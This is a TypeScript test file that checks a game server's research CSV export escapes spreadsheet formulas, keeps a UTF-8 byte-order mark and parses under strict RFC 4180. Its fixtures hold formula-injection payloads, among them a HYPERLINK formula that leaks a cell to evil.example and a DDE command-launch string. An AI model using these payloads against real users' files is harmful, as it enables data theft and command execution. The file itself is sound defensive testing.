import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tinyScenario } from "../../shared/scenarios/index";
import { backends } from "../support/backends";
import { facilitatorKey, http, type Running, startServer } from "../support/server";

// The research CSV is opened in spreadsheets, and players write most of its cells. A game whose
// names, chat and notes start with every character a spreadsheet reads as a formula exports a
// file in which each such cell starts with `'`, that begins with a UTF-8 byte-order mark, that a
// strict RFC 4180 reader parses back to the very texts, and whose join and note rows say who.

/** A strict RFC 4180 reader: CRLF ends a record, quotes only around a whole field. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i += 1;
        if (i < text.length && text[i] !== "," && text[i] !== "\r")
          throw new Error(`text after a closing quote at ${i}`);
      } else {
        cell += c;
        i += 1;
      }
      continue;
    }
    if (c === '"') {
      if (cell !== "") throw new Error(`a quote inside an unquoted field at ${i}`);
      quoted = true;
      i += 1;
    } else if (c === ",") {
      row.push(cell);
      cell = "";
      i += 1;
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i += 2;
    } else if (c === "\r" || c === "\n") {
      throw new Error(`a bare line break outside quotes at ${i}: a cell's line break was not quoted`);
    } else {
      cell += c;
      i += 1;
    }
  }
  if (quoted || cell !== "" || row.length > 0) throw new Error("the last record does not end with CRLF");
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;
/** What the export must write for a player's text: a `'` before a formula's first character. */
const safe = (s: string) => (FORMULA.test(s) ? `'${s}` : s);

const NAMES: Record<string, string> = {
  "n-lead": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "n-fish": "@SUM(1+1)",
  "n-aide": "-2+3",
  "s-lead": "王小明 🐟",
  "s-fish": "+Plus",
};
const CHATS: [seat: string, channel: string, text: string][] = [
  ["n-lead", "team:north", "=1+1"],
  ["n-fish", "team:north", "+cmd|' /C calc'!A0"],
  ["n-aide", "team:north", "-5"],
  ["s-lead", "team:south", "@everyone look"],
  ["s-fish", "team:south", "\tIndented by a tab"],
  ["s-lead", "team:south", "\r=carriage return first"],
  ["n-fish", "team:north", '王小明 says "hi", twice 😀\nand on a second line'],
  ["s-fish", "team:south", "－fullwidth minus, as Apple Numbers reads it"],
];
const NOTES: { text: string; to?: string[] }[] = [
  { text: "=NOTE() to two", to: ["n-lead", "south"] },
  { text: "@all of you" },
];

for (const backend of backends) {
  describe(`the research CSV (${backend.name})`, () => {
    let server: Running;
    let drop: () => Promise<void>;
    let key = "";
    let gameId = "";
    let bytes: Uint8Array;
    let contentType = "";
    let rows: string[][] = [];
    let sent = 0;

    beforeAll(async () => {
      const fresh = await backend.fresh();
      drop = fresh.drop;
      server = await startServer(fresh.db);
      key = await facilitatorKey(server.url);
      expect((await http(server.url, "POST", "/api/scenarios", { token: key, body: tinyScenario })).status).toBe(201);
      const game = (
        await http(server.url, "POST", "/api/games", { token: key, body: { scenarioId: "tiny-summit", seed: "csv" } })
      ).body;
      gameId = game.gameId;
      const tokens: Record<string, string> = {};
      for (const [seat, name] of Object.entries(NAMES)) {
        const joined = await http(server.url, "POST", `/api/games/${gameId}/join`, {
          body: { code: game.joinCodes[seat], name },
        });
        expect(joined.status, JSON.stringify(joined.body)).toBe(200);
        tokens[seat] = joined.body.token;
      }
      const move = async (token: string, body: unknown) => {
        const r = await http(server.url, "POST", `/api/games/${gameId}/moves`, { token, body });
        expect(r.body, JSON.stringify(body)).toMatchObject({ ok: true });
        sent += 1;
      };
      await move(game.facilitatorToken, { type: "resume" });
      for (const [seat, channel, text] of CHATS) await move(tokens[seat]!, { type: "chat", channel, text });
      for (const note of NOTES) await move(game.facilitatorToken, { type: "note", ...note });
      await move(game.facilitatorToken, { type: "inject", title: "=Storm", text: "+2 boats lost", to: ["north"] });

      const res = await fetch(`${server.url}/api/games/${gameId}/export?format=csv`, {
        headers: { authorization: `Bearer ${key}` },
      });
      expect(res.status).toBe(200);
      contentType = res.headers.get("content-type") ?? "";
      bytes = new Uint8Array(await res.arrayBuffer());
      // ignoreBOM keeps the mark in the text, so that it can be seen and taken off here.
      const text = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(bytes);
      expect(text.startsWith("\uFEFF")).toBe(true);
      rows = parseCsv(text.slice(1));
    });
    afterAll(async () => {
      await server?.stop();
      await server?.ctx.db.close();
      await drop?.();
    });

    const column = (name: string) => rows[0]!.indexOf(name);
    const cellOf = (row: string[], name: string) => row[column(name)]!;
    const ofType = (type: string) => rows.slice(1).filter((r) => cellOf(r, "type") === type);

    it("starts with a UTF-8 byte-order mark and says it is UTF-8 CSV", () => {
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      expect(contentType).toBe("text/csv; charset=utf-8");
      // The mark is there once: the header follows it directly.
      expect(new TextDecoder().decode(bytes.slice(3, 6))).toBe("seq");
    });

    it("keeps the protocol's columns first, a row per event, every row as wide as the header", () => {
      expect(rows[0]!.slice(0, 10)).toEqual([
        "seq",
        "at",
        "phase",
        "side",
        "role",
        "type",
        "terms",
        "proposal",
        "channel",
        "text",
      ]);
      expect(rows[0]).toContain("to");
      // The five joins and every move sent.
      expect(rows).toHaveLength(1 + Object.keys(NAMES).length + sent);
      for (const r of rows) expect(r).toHaveLength(rows[0]!.length);
    });

    it("writes no cell that a spreadsheet would run as a formula", () => {
      const risky = rows.flat().filter((c) => FORMULA.test(c) || /^[\uFF1D\uFF0B\uFF0D\uFF20]/.test(c));
      expect(risky).toEqual([]);
      // And the escape is there: the texts are not merely missing.
      expect(rows.flat().filter((c) => c.startsWith("'"))).toHaveLength(14);
    });

    it("gives back every chat text intact behind its escape, in order", () => {
      const chats = ofType("chat");
      expect(chats.map((r) => [cellOf(r, "role"), cellOf(r, "channel"), cellOf(r, "text")])).toEqual(
        CHATS.map(([seat, channel, text]) => [seat, channel, text.startsWith("－") ? `'${text}` : safe(text)]),
      );
      // 王小明, the emoji, the quotes, the comma and the line break all survive.
      expect(chats.map((r) => cellOf(r, "text"))).toContain('王小明 says "hi", twice 😀\nand on a second line');
    });

    it("names the seat on each join row: its role, its side, and the name given", () => {
      const joins = ofType("seatJoined");
      expect(joins.map((r) => [cellOf(r, "role"), cellOf(r, "side"), cellOf(r, "text")])).toEqual(
        Object.entries(NAMES).map(([seat, name]) => [
          seat,
          tinyScenario.roles.find((r) => r.id === seat)!.side,
          safe(name),
        ]),
      );
      expect(joins.map((r) => cellOf(r, "text"))).toContain("王小明 🐟");
    });

    it("names the addressees of each note and of a written inject", () => {
      expect(ofType("note").map((r) => [cellOf(r, "role"), cellOf(r, "text"), cellOf(r, "to")])).toEqual([
        ["facilitator", "'=NOTE() to two", "n-lead south"],
        ["facilitator", "'@all of you", "(everyone)"],
      ]);
      expect(ofType("inject").map((r) => [cellOf(r, "text"), cellOf(r, "to")])).toEqual([
        ["'=Storm: +2 boats lost", "north"],
      ]);
      // Rows that are not addressed leave the column empty.
      expect(new Set(ofType("chat").map((r) => cellOf(r, "to")))).toEqual(new Set([""]));
    });

    it("de-identifies the same way: the mark, the escapes, and role titles for names", async () => {
      const res = await fetch(`${server.url}/api/games/${gameId}/export?format=csv&deidentify=true`, {
        headers: { authorization: `Bearer ${key}` },
      });
      const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
      expect(text.startsWith("\uFEFF")).toBe(true);
      const anon = parseCsv(text.slice(1));
      const joins = anon.filter((r) => r[column("type")] === "seatJoined");
      expect(joins.map((r) => r[column("text")])).toEqual(
        Object.keys(NAMES).map((seat) => tinyScenario.roles.find((r) => r.id === seat)!.title),
      );
      expect(text).not.toContain("王小明 🐟");
      expect(anon.filter((r) => r[column("type")] === "chat").map((r) => r[column("text")])).toEqual(
        ofType("chat").map((r) => cellOf(r, "text")),
      );
    });
  });
}
